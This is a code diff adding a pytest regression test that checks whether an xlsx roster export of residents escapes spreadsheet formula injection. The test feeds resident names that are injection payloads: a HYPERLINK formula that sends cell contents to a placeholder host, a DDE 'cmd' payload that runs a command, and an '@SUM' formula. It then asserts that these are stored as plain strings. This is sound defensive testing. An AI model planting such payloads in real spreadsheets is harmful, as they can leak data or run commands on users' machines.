@@ -137,6 +137,31 @@ def test_roster_xlsx_for_staff(lu_an, community_staff, client):
     assert rows[1][3] == "王秀英" and rows[1][5] == "独居老人"
 
 
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+)
+def test_roster_xlsx_has_no_formula_cell(lu_an, community_staff, client, name):
+    """Found by a newcomer's walk: the roster wrote a resident so named as a live formula."""
+    household = f.household(f"{ANKANG}/1栋", room="102")
+    f.resident(household, name=name, work_unit="-1")
+    client.login(username=community_staff.username, password=PASSWORD)
+
+    response = client.get(reverse("roster") + f"?building={region(f'{ANKANG}/1栋').pk}&format=xlsx")
+
+    import zipfile
+
+    with zipfile.ZipFile(BytesIO(response.content)) as book:
+        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    cells = [
+        c
+        for row in load_workbook(BytesIO(response.content)).active.iter_rows()
+        for c in row
+        if c.value == name
+    ]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
 def test_roster_is_not_for_a_whole_district(as_user, town_staff):
     assert as_user(town_staff).get(reverse("roster")).status_code == 404
 
